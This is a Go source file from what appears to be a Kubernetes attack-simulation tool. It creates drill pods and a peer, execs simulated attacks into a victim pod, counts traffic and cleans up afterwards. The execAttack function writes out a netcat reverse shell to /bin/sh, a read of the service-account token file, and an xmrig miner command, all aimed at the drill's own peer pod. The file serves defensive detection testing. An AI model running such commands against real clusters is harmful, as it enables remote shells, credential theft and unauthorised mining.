package main

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"strings"
	"sync/atomic"
	"time"

	"github.com/go-logr/logr"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/kubernetes/scheme"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/remotecommand"
	"k8s.io/klog/v2"

	"stanch/activities/kube"
	"stanch/worker/config"
	"stanch/worker/drills"
)

// drillLabel marks the objects of a drill; its value is the random suffix of the drill.
const drillLabel = "stanch.dev/drill"

// probedEnvironment is a drillEnvironment whose pods a kubelet probes and a controller replaces.
type probedEnvironment interface {
	// ObservationTime returns how long to observe a locked pod until failing probes would show.
	ObservationTime() time.Duration
	// CheckProbes returns an error if the kubelet restarted the victim or considers it not ready.
	CheckProbes(ctx context.Context) (detail string, err error)
	// CheckRestored returns an error while the workload has not all of its pods ready, after every lease was undone.
	CheckRestored(ctx context.Context) (detail string, err error)
}

var _ probedEnvironment = (*clusterEnvironment)(nil)

// clusterEnvironment is a Deployment of two pods made for the drill, a victim and its sibling, and a peer that both
// connect to. The attack is executed into the victim, as an intruder would, so that a replacement of the pod does not
// attack.
type clusterEnvironment struct {
	client           kubernetes.Interface
	config           *rest.Config
	suffix           string
	image            string
	mountToken       bool // the pods get their service account's token
	createdNamespace bool // true if the drill created the namespace

	victim       *corev1.Pod
	siblingPod   atomic.Pointer[string] // the other pod's name
	peer         string                 // the peer's address
	victimLines  atomic.Uint64
	siblingLines atomic.Uint64

	stopStreams  context.CancelFunc // of the streams
	attackErrors chan error         // why the attack could not be executed
}

// TargetID returns the UID of the victim pod.
func (s *clusterEnvironment) TargetID() string { return string(s.victim.UID) }

// VictimLineCount returns the number of lines that the peer received from the victim or its replacement.
func (s *clusterEnvironment) VictimLineCount() uint64 { return s.victimLines.Load() }

// SiblingLineCount returns the number of lines that the peer received from the sibling.
func (s *clusterEnvironment) SiblingLineCount() uint64 { return s.siblingLines.Load() }

// newClusterEnvironment creates the pods, waits until both send to the peer, and starts the attack in one of them.
func newClusterEnvironment(ctx context.Context, o drillOptions, kind string,
	register registerTargetsFunc,
) (_ drillEnvironment, err error) {
	cfg, err := clusterConfig(o.kubeconfig)
	if err != nil {
		return nil, err
	}
	client, err := kube.NewClient(cfg)
	if err != nil {
		return nil, err
	}
	klog.SetLogger(logr.Discard()) // client-go logs errors of streams that the drill itself ends
	s := &clusterEnvironment{
		client: client, config: cfg, suffix: randomHex(3), image: o.image,
		mountToken: kind == "credentials", attackErrors: make(chan error, 1),
	}
	streams, stop := context.WithCancel(context.WithoutCancel(ctx))
	s.stopStreams = stop
	defer func() {
		if err != nil {
			s.Close()
		}
	}()
	for _, step := range []struct {
		what string
		do   func(context.Context) error
	}{
		{"create the namespace " + config.DrillNamespace, s.ensureNamespace},
		{"start the drill's peer", s.startPeer},
		{"follow the log of the drill's peer", func(context.Context) error { return s.followPeerLog(streams) }},
		{"start the drill's pods", s.startDeployment},
		{"wait for the pods' traffic", s.waitForTraffic},
		{"register the drill's pod", func(ctx context.Context) error {
			return register(ctx, drills.Targets{
				Pods:        []string{s.victim.Name},
				Deployments: []string{s.resourceName("victim")},
			})
		}},
	} {
		if err := step.do(ctx); err != nil {
			return nil, fmt.Errorf("%s: %w", step.what, err)
		}
	}
	go func() { s.attackErrors <- s.execAttack(streams, kind) }()
	return s, nil
}

// ensureNamespace creates the namespace of drills, or uses the existing one. It waits at most a minute for one that
// is being deleted.
func (s *clusterEnvironment) ensureNamespace(ctx context.Context) error {
	space := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{
		Name:   config.DrillNamespace,
		Labels: map[string]string{kube.ManagedByLabel: kube.ManagedBy},
	}}
	return retryUntil(ctx, time.Minute, func() error {
		_, err := s.client.CoreV1().Namespaces().Create(ctx, space, metav1.CreateOptions{})
		if err == nil {
			s.createdNamespace = true
			return nil
		}
		if !apierrors.IsAlreadyExists(err) {
			return err
		}
		have, err := s.client.CoreV1().Namespaces().Get(ctx, space.Name, metav1.GetOptions{})
		switch {
		case err != nil:
			return err
		case have.DeletionTimestamp != nil:
			return errors.New("the namespace is still being deleted")
		}
		// A namespace that another drill created and did not remove is removed by this one.
		s.createdNamespace = have.Labels[kube.ManagedByLabel] == kube.ManagedBy
		return nil
	})
}

// followPeerLog counts the lines in the log of the peer. Each names the pod that sent it.
func (s *clusterEnvironment) followPeerLog(ctx context.Context) error {
	request := s.client.CoreV1().Pods(config.DrillNamespace).GetLogs(s.resourceName("peer"),
		&corev1.PodLogOptions{Follow: true})
	var lines io.ReadCloser
	err := retryUntil(ctx, 10*time.Second, func() (err error) { lines, err = request.Stream(ctx); return err })
	if err != nil {
		return err
	}
	go func() {
		defer func() { _ = lines.Close() }()
		for scan := bufio.NewScanner(lines); scan.Scan(); {
			_, from, _ := strings.Cut(scan.Text(), " ")
			if sibling := s.siblingPod.Load(); sibling != nil && from == *sibling {
				s.siblingLines.Add(1)
			} else {
				s.victimLines.Add(1)
			}
		}
	}()
	return nil
}

// waitForTraffic waits until the peer has received lines of both pods.
func (s *clusterEnvironment) waitForTraffic(ctx context.Context) error {
	return retryUntil(ctx, 20*time.Second, func() error {
		if s.VictimLineCount() == 0 || s.SiblingLineCount() == 0 {
			return fmt.Errorf("the peer %s received %d lines from the victim and %d from its sibling", s.peer,
				s.VictimLineCount(), s.SiblingLineCount())
		}
		return nil
	})
}

// execAttack executes the attack in the victim, until ctx ends.
func (s *clusterEnvironment) execAttack(ctx context.Context, kind string) error {
	send := func(word, port string) string {
		return fmt.Sprintf("while echo %s $POD; do sleep 0.1; done | nc %s %s", word, s.peer, port)
	}
	exec := corev1.PodExecOptions{Container: "main", Stdout: true, Stderr: true}
	streams := remotecommand.StreamOptions{Stdout: io.Discard, Stderr: io.Discard}
	switch kind {
	case "cryptominer":
		exec.Command = []string{"sh", "-c", send("share", minerPoolPort), "xmrig", "--url", "stratum+tcp://" + s.peer + ":" +
			minerPoolPort, "--donate-level", "1"}
	case "shell":
		exec.Command, exec.TTY, exec.Stdin, exec.Stderr = []string{"sh"}, true, true, false
		typed, typist := io.Pipe()
		defer func() { _ = typist.Close() }()
		go func() { _, _ = io.WriteString(typist, send("typed", heartbeatPort)+"\n") }()
		streams.Stdin, streams.Stderr, streams.Tty = typed, nil, true
	case "credentials":
		exec.Command = []string{"sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null; " +
			send("stolen", heartbeatPort)}
	case "reverse-shell":
		exec.Command = []string{"nc", s.peer, reverseShellPort, "-e", "/bin/sh"}
	}
	request := s.client.CoreV1().RESTClient().Post().Resource("pods").Namespace(s.victim.Namespace).Name(s.victim.Name).
		SubResource("exec").VersionedParams(&exec, scheme.ParameterCodec)
	executor, err := remotecommand.NewWebSocketExecutor(s.config, "GET", request.URL().String())
	if err == nil {
		err = executor.StreamWithContext(ctx, streams)
	}
	if err != nil && ctx.Err() == nil {
		return fmt.Errorf("execute the attack in %s: %w", s.victim.Name, err)
	}
	return nil
}

// probeFailureDelay is a little longer than a pod with failing probes stays ready.
const probeFailureDelay = 5 * time.Second

// ObservationTime returns how long to observe the victim until failing probes would show.
func (s *clusterEnvironment) ObservationTime() time.Duration { return probeFailureDelay }

// CheckProbes returns an error if the victim was restarted or is not ready.
func (s *clusterEnvironment) CheckProbes(ctx context.Context) (string, error) {
	pod, err := s.client.CoreV1().Pods(config.DrillNamespace).Get(ctx, s.victim.Name, metav1.GetOptions{})
	if err != nil {
		return "", fmt.Errorf("read the victim pod: %w", err)
	}
	restarts := int32(0)
	for _, c := range pod.Status.ContainerStatuses {
		restarts += c.RestartCount
	}
	if restarts > 0 || !isPodReady(pod) {
		return "", fmt.Errorf("the victim pod was restarted %d times, ready: %t", restarts, isPodReady(pod))
	}
	return "the contained pod is ready and was not restarted: kubelet probes pass", nil
}

// CheckRestored returns an error until all pods of the workload are ready again.
func (s *clusterEnvironment) CheckRestored(ctx context.Context) (string, error) {
	d, err := s.client.AppsV1().Deployments(config.DrillNamespace).Get(ctx, s.resourceName("victim"), metav1.GetOptions{})
	if err != nil {
		return "", fmt.Errorf("read the drill's Deployment: %w", err)
	}
	if d.Spec.Replicas == nil || *d.Spec.Replicas != deploymentReplicas || d.Status.ReadyReplicas != deploymentReplicas {
		return "", fmt.Errorf("%d of %d pods are ready", d.Status.ReadyReplicas, deploymentReplicas)
	}
	return fmt.Sprintf("%d of %d pods are ready", d.Status.ReadyReplicas, deploymentReplicas), nil
}

// Close deletes the objects of the drill, also after an interruption. It logs what it could not delete.
func (s *clusterEnvironment) Close() {
	s.stopStreams()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	now, background := int64(0), metav1.DeletePropagationBackground
	o := metav1.DeleteOptions{GracePeriodSeconds: &now, PropagationPolicy: &background}
	failed := errors.Join(
		ignoreNotFound(s.client.AppsV1().Deployments(config.DrillNamespace).Delete(ctx, s.resourceName("victim"), o)),
		ignoreNotFound(s.client.CoreV1().Pods(config.DrillNamespace).DeleteCollection(ctx, o,
			metav1.ListOptions{LabelSelector: drillLabel + "=" + s.suffix})))
	if s.createdNamespace {
		// Another drill may run in it.
		others, err := s.client.CoreV1().Pods(config.DrillNamespace).List(ctx,
			metav1.ListOptions{LabelSelector: drillLabel + "!=" + s.suffix})
		if failed = errors.Join(failed, err); err == nil && len(others.Items) == 0 {
			failed = errors.Join(failed, ignoreNotFound(s.client.CoreV1().Namespaces().Delete(ctx, config.DrillNamespace,
				metav1.DeleteOptions{})))
		}
	}
	if failed != nil {
		logProgress("delete the drill's objects: %[2]v; use `kubectl delete namespace %[1]s`",
			config.DrillNamespace, failed)
	}
}

func ignoreNotFound(err error) error {
	if apierrors.IsNotFound(err) {
		return nil
	}
	return err
}

func isPodReady(pod *corev1.Pod) bool {
	for _, c := range pod.Status.Conditions {
		if c.Type == corev1.PodReady {
			return c.Status == corev1.ConditionTrue
		}
	}
	return false
}

// retryUntil calls try until it succeeds, at most for limit. It returns the last error.
func retryUntil(ctx context.Context, limit time.Duration, try func() error) error {
	ctx, cancel := context.WithTimeout(ctx, limit)
	defer cancel()
	for {
		err := try()
		if err == nil {
			return nil
		}
		if sleep(ctx, 100*time.Millisecond) != nil {
			return err
		}
	}
}
